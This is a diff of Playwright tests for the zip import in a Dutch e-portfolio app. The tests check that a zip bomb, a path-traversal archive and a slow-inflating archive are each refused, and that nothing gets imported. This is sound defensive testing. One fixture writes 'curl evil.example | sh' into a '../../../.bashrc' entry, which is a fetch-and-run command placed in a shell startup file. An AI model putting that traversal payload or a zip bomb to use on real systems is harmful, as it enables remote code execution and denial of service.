@@ -1,4 +1,7 @@
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { dirname } from 'node:path';
 import { expect, test, type Page, ANNA, MARIEKE, MOCK_API_URL, apiSession, expectNoAxeViolations, expectNoHorizontalScroll, heading, mockState, readOutbox, resetMock, signIn, startControlled, waitForQueryPersist } from './support.ts';
+import { BOMB_ATTACHMENT, bombZip, craftZip, portfolioJson, slowDeflate } from '../crafted-zips.ts';
 
 /**
  * The e-portfolio at 360×740: an item with a photo made offline reaches the server exactly
@@ -227,4 +230,116 @@ test('an item deleted offline is gone at once, stays gone after a reload, and is
   await expect.poll(async () => (await mockState()).portfolioItems.some((i) => i.id === 'e2e-delete-1')).toBe(false);
   expect((await writes('portfolioItem:e2e-delete-1')).filter((w) => w.method === 'DELETE')).toHaveLength(1);
   await expect.poll(async () => (await readOutbox(page)).length).toBe(0);
+});
+
+/** Starts recording the page's long tasks (main thread busy for more than 50 ms). */
+async function recordLongTasks(page: Page) {
+  await page.evaluate(() => {
+    const durations: number[] = [];
+    (window as unknown as { longTasks: number[] }).longTasks = durations;
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries()) durations.push(Math.round(entry.duration));
+    }).observe({ type: 'longtask' });
+  });
+}
+const longTasksOver = (page: Page, ms: number) => page.evaluate((limit) => (window as unknown as { longTasks: number[] }).longTasks.filter((d) => d > limit), ms);
+
+/**
+ * A zip as a file on disk: Playwright hands a path to the browser as is, where a buffer would be
+ * decoded by a script in the page (itself a long task for a file of 1 MB).
+ */
+function zipUpload(bytes: Uint8Array, name: string): string {
+  const path = test.info().outputPath(`${name}.zip`);
+  mkdirSync(dirname(path), { recursive: true });
+  writeFileSync(path, bytes);
+  return path;
+}
+const PDF = Buffer.from('%PDF-1.4 getuigschrift');
+
+async function openKeep(page: Page) {
+  await startControlled(page, ANNA.name);
+  await page.goto('/portfolio/bewaren');
+  await expect(heading(page, 'Bewaren of meenemen')).toBeVisible();
+}
+
+async function nothingImported(page: Page) {
+  await expect(page.getByText('Het bestand is in orde')).toHaveCount(0);
+  await expect(page.getByRole('button', { name: 'Inladen' })).toHaveCount(0);
+  expect((await readOutbox(page)).filter((r) => r.lane.startsWith('portfolioItem:'))).toHaveLength(0);
+  expect((await mockState()).portfolioItems.filter((i) => i.clientId === ANNA.id)).toHaveLength(0);
+}
+
+test('import: a zip bomb (1 MB whose headers say 1 MB, inflating past 1 GB) is refused within seconds, off the page, and nothing is imported', async ({ page }) => {
+  await openKeep(page);
+  const bomb = bombZip();
+  expect(bomb.byteLength).toBeLessThan(1.1 * 1024 * 1024);
+  await recordLongTasks(page);
+  const started = Date.now();
+  await page.getByLabel('Zip-bestand kiezen').setInputFiles(zipUpload(bomb, 'bomb'));
+  // the old import blocked the page for ~11 s, then called it "in orde" and imported 1 MB of it
+  await expect(page.getByText(`Het bestand ${BOMB_ATTACHMENT.path} in de zip is uitgepakt te groot: meer dan 8 MB. We hebben niets ingeladen.`)).toBeVisible();
+  const took = Date.now() - started;
+  console.log(`zip bomb refused after ${took} ms`);
+  expect(took).toBeLessThan(5_000);
+  await expect(page.getByRole('status').filter({ hasText: 'Het bestand is niet in orde. We hebben niets ingeladen.' })).toBeVisible();
+  expect(await longTasksOver(page, 200)).toEqual([]);
+  await nothingImported(page);
+  await check(page, 'import refused');
+});
+
+test('import: a zip with ../ in a name is refused whole, naming the entry', async ({ page }) => {
+  await openKeep(page);
+  const zip = craftZip([
+    { name: 'portfolio.json', data: portfolioJson(PDF.length) },
+    { name: BOMB_ATTACHMENT.path, data: PDF },
+    { name: 'files/../../../.bashrc', data: Buffer.from('curl evil.example | sh') },
+  ]);
+  await page.getByLabel('Zip-bestand kiezen').setInputFiles(zipUpload(zip, 'parent-path'));
+  await expect(page.getByText('In de zip staat een bestand met een naam die niet mag: files/../../../.bashrc. We hebben niets ingeladen.')).toBeVisible();
+  await nothingImported(page);
+});
+
+test('import offline (the worker from the precache): a slow zip shows progress, the page stays responsive, Stoppen ends it; a good zip is checked', async ({ page, context }) => {
+  await openKeep(page);
+  // the worker is in the precache (a chunk of its own, never fetched before it is used)
+  const precached = await page.evaluate(async () => {
+    const urls: string[] = [];
+    for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) urls.push(new URL(request.url).pathname);
+    return urls.filter((path) => /^\/assets\/zip\.worker-[\w-]+\.js$/.test(path));
+  });
+  expect(precached).toHaveLength(1);
+  await context.setOffline(true);
+  // honest headers, but seconds of work: thousands of deflate blocks that each build a 32K table
+  const slow = craftZip([
+    { name: 'portfolio.json', data: portfolioJson(PDF.length) },
+    { name: BOMB_ATTACHMENT.path, data: PDF },
+    { name: 'files/slow/leeg.bin', compressed: slowDeflate(60_000), size: 0, crc: 0 },
+  ]);
+  await recordLongTasks(page);
+  await page.getByLabel('Zip-bestand kiezen').setInputFiles(zipUpload(slow, 'slow'));
+  const bar = page.getByRole('progressbar', { name: 'Bestand controleren' });
+  await expect(bar).toBeVisible();
+  await expect.poll(async () => Number(await bar.getAttribute('value'))).toBeGreaterThan(0);
+  await expect(page.getByRole('status').filter({ hasText: /^We controleren het bestand\. \d+% klaar\.$/ })).toBeVisible();
+  // the page answers at once while the worker works
+  for (let i = 0; i < 3; i += 1) {
+    const asked = Date.now();
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
+    expect(Date.now() - asked).toBeLessThan(500);
+  }
+  const stopped = Date.now();
+  await page.getByRole('button', { name: 'Stoppen' }).click();
+  await expect(page.getByRole('status').filter({ hasText: 'Gestopt. We hebben niets ingeladen.' })).toBeVisible();
+  expect(Date.now() - stopped).toBeLessThan(2_000);
+  await expect(bar).toHaveCount(0);
+  expect(await longTasksOver(page, 200)).toEqual([]);
+  await nothingImported(page);
+
+  const good = craftZip([
+    { name: 'portfolio.json', data: portfolioJson(PDF.length) },
+    { name: BOMB_ATTACHMENT.path, data: PDF },
+  ]);
+  await page.getByLabel('Zip-bestand kiezen').setInputFiles(zipUpload(good, 'good'));
+  await expect(page.getByText('Het bestand is in orde')).toBeVisible();
+  await expect(page.getByText('Items: 1. Bijlagen: 1.')).toBeVisible();
 });
